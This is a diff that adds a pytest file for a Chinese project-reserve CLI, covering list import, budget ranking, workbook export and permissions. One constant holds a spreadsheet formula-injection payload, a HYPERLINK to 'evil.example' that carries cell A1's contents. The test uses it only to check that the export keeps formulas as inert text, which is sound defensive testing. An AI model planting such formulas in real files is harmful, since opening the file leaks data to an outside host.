@@ -1,0 +1,134 @@
+"""From the announced list to the workbook: ``reserve lists import``, ``rank`` and ``export`` on two accepted projects."""
+
+import csv
+import hashlib
+import io
+import shutil
+import sqlite3
+from contextlib import closing
+from pathlib import Path
+
+import pytest
+
+from reserve.store import Store, make_engine
+from tests.cli.conftest import environment_of
+from tests.cli.running import Reserve
+from tests.reserve.exchange.archives import cells, part, sheet_parts
+from tests.support.office import Office
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"熟料线节能改造")'
+OTHER = "2401-330522-07-02-654321"
+OPENING = ("--programme", "zhejiang_cement_special_fund", "--budget", "300", "--basis", "演示〔2024〕9号")
+LIST = f"序号,项目代码,企业名称,项目名称\n1,{OTHER},,\n2,9999-330522-07-02-000000,虚构企业,不在库中的项目\n"
+
+
+@pytest.fixture(scope="module")
+def accepted(migrated: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Two projects in the provincial library; one bears a formula as its name."""
+    file = tmp_path_factory.mktemp("accepted") / "reserve.db"
+    with closing(sqlite3.connect(migrated)) as source, closing(sqlite3.connect(file)) as target:
+        source.backup(target)
+    office = Office(Store(make_engine(f"sqlite:///{file}")))
+    chain = office.chain()
+    office.in_state(chain, "province", {"project_name": (ATTACK, None)})
+    office.in_state(chain, "province", {"project_code": (OTHER, None), "line_name": ("2号熟料线", None), "project_name": ("二号线", None)})
+    office.desk.store.dispose()
+    return file
+
+
+@pytest.fixture
+def library(accepted: Path, tmp_path: Path) -> Reserve:
+    """A command line over a copy of it."""
+    shutil.copy(accepted, tmp_path / "reserve.db")
+    return Reserve(environment_of(tmp_path) | {"RESERVE_USER": "zj.ranker"})
+
+
+def opened(library: Reserve) -> str:
+    return str(library.read_json("rank", *OPENING)["code"])
+
+
+def test_batch_is_opened_ranked_and_shown_with_its_line(library):
+    result = library.run("rank", *OPENING)
+    assert result.exit_code == 0, result.output
+    assert "已开设批次 3300-2024-B01" in result.stderr
+    assert "二号线" in result.stdout
+    assert "预算 300.00 万元" in result.stdout
+
+
+def test_ranking_again_gives_the_same_digest_and_showing_ranks_nothing(library):
+    code = opened(library)
+    digests = [library.read_json("rank", code)["runs"][-1]["result_digest"] for _ in range(2)]
+    assert digests[0] == digests[1]
+    before = library.read_json("audit", "verify")["events"]
+    shown = library.read_json("rank", code, "--show")
+    assert (len(shown["runs"]), shown["runs"][-1]["result_digest"]) == (3, digests[0])
+    assert library.read_json("audit", "verify")["events"] == before + 2, "only the sign-in and sign-out of the operator's session"
+
+
+def test_offers_stay_within_the_budget_to_the_fen(library):
+    view = library.read_json("rank", *OPENING)
+    assert sum(row["offer_fen"] for row in view["rows"]) == view["spent_fen"] <= view["budget_fen"] == 300_000_000
+
+
+def test_listed_project_becomes_a_member_once_and_the_unknown_one_is_not_matched(library, tmp_path):
+    file = tmp_path / "list.csv"
+    file.write_text(LIST, encoding="utf-8")
+    arguments = ("lists", "import", str(file), "--kind", "provincial_key_plan", "--document", "浙演示〔2024〕1号", "--date", "2024-05-20")
+    first, second = library.read_json(*arguments), library.read_json(*arguments)
+    assert (first["added"], first["already"], second["added"], second["already"]) == (1, 0, 0, 1)
+    assert [row["project_code"] for row in first["unmatched"]] == ["9999-330522-07-02-000000"]
+    shown = library.run(*arguments)
+    assert "不在库中的项目" in shown.stderr, "rows that name no project are named"
+    tiers = {row["name"]: row["tier"] for row in library.read_json("rank", *OPENING)["rows"]}
+    assert tiers["二号线"] < tiers[ATTACK], "what the list names goes first"
+
+
+def test_list_from_the_future_and_of_unknown_kind_are_refused_with_2(library, tmp_path):
+    file = tmp_path / "list.csv"
+    file.write_text(LIST, encoding="utf-8")
+    future = library.run(
+        "lists", "import", str(file), "--kind", "provincial_key_plan", "--document", "浙演示〔2024〕1号", "--date", "2030-01-01"
+    )
+    assert (future.exit_code, "2030-01-01" in future.stderr) == (2, True)
+    kind = library.run("lists", "import", str(file), "--kind", "my_favourites", "--document", "浙演示〔2024〕1号", "--date", "2024-05-20")
+    assert (kind.exit_code, "my_favourites" in kind.stderr) == (2, True)
+
+
+def test_exported_workbook_proves_itself_and_replaces_nothing_unasked(library, tmp_path):
+    code, file = opened(library), tmp_path / "list.xlsx"
+    written = library.run("export", code, "-o", str(file))
+    assert written.exit_code == 0
+    assert f"{file.stat().st_size:,}" in written.stderr
+    digest = library.read_json("rank", code, "--show")["runs"][-1]["result_digest"]
+    values = {str(value) for sheet in range(5) for line in cells(file.read_bytes(), sheet) for value in line}
+    assert digest in values
+    command = next(value for value in values if "--head " in value)
+    head = command.split("--head ")[1][:64]
+    assert "核对一致" in library.fine("audit", "verify", "--head", head)
+    before = hashlib.sha256(file.read_bytes()).digest()
+    again = library.run("export", code, "-o", str(file))
+    assert (again.exit_code, "--force" in again.stderr) == (3, True)
+    assert hashlib.sha256(file.read_bytes()).digest() == before
+    assert library.run("export", code, "-o", str(file), "--force").exit_code == 0
+    assert not list(tmp_path.glob(".*.part"))
+
+
+def test_formula_in_the_name_of_an_accepted_project_is_text_in_workbook_and_csv(library, tmp_path):
+    code, file = opened(library), tmp_path / "list.xlsx"
+    library.fine("export", code, "-o", str(file))
+    content = file.read_bytes()
+    assert all("<f" not in xml and "<hyperlink" not in xml for xml in sheet_parts(content))
+    assert ATTACK in [value for line in cells(content) for value in line]
+    assert "HYPERLINK" in part(content, "xl/sharedStrings.xml")
+    printed = list(csv.reader(io.StringIO(library.fine("rank", code, "--show", "--csv").lstrip("\ufeff"))))
+    assert "'" + ATTACK in [cell for line in printed for cell in line]
+
+
+def test_clerk_neither_ranks_nor_exports_and_an_unknown_batch_ends_with_4(library, tmp_path):
+    code = opened(library)
+    for command in (("rank", code), ("export", code, "-o", str(tmp_path / "x.xlsx"))):
+        result = library.run(*command, "--as", "330522.clerk")
+        assert result.exit_code == 3
+        assert "县级经办" in result.stderr
+    assert library.run("rank", "3300-2024-B99").exit_code == 4
+    assert not (tmp_path / "x.xlsx").exists()
